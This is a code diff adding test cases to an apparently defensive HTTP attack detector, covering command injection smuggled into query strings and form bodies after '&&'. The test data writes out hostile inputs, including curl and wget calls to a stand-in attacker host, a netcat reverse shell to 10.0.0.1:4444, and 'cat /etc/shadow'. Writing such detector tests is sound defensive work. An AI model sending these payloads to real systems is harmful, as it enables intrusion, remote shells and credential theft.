@@ -175,3 +175,37 @@ for (const [name, cls, where, v] of ATTACKS) {
 for (const [name, where, v] of BENIGN) {
   test(`benign: ${name}`, () => assert.deepEqual(classes(where, v), [], `${where} ${JSON.stringify(v)}`));
 }
+
+/**
+ * A query string or form body split on `&` can cut a command in two (`?1+1&&curl host`): the
+ * whole text is read for shell as well, when an empty pair or a later name holding a space shows
+ * the split may have cut one. Ordinary query strings (flags, empty names, `&&` typos) stay quiet.
+ */
+const RAW_QUERIES: Array<[string, AttackClass[]]> = [
+  ['/?1+1&&curl+attacker.example', ['rce']],
+  ['/ping?host=127.0.0.1&&whoami', ['rce']],
+  ['/ping?host=127.0.0.1&&nc%20-e%20/bin/sh%2010.0.0.1%204444', ['rce']],
+  ['/ping?host=x&wget+attacker.example/x.sh', ['rce']],
+  // Benign look-alikes: a doubled `&`, flags without `=`, a leading `&`, a name with a space.
+  ['/search?q=shoes&&page=2', []],
+  ['/list?sort=name&desc&page=2', []],
+  ['/list?&a=1&b=2', []],
+  ['/search?q=1&x&Black+Friday+deals', []],
+  ['/api?a=1&&b=2&&c=3', []],
+];
+
+for (const [target, expected] of RAW_QUERIES) {
+  test(`raw query ${JSON.stringify(target)} -> ${expected.join(',') || 'nothing'}`, () =>
+    assert.deepEqual(detector.detect(tx({ target }))?.hits.map((h) => h.class) ?? [], expected));
+}
+
+test('raw form body: `&&` between commands is read as one shell value', () => {
+  const form = (body: string) =>
+    detector
+      .detect(
+        tx({ method: 'POST', target: '/ping', headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']], body }),
+      )
+      ?.hits.map((h) => h.class) ?? [];
+  assert.deepEqual(form('ip=127.0.0.1&&cat+/etc/shadow'), ['rce']);
+  assert.deepEqual(form('name=Tom&&Jerry=1'), []);
+});
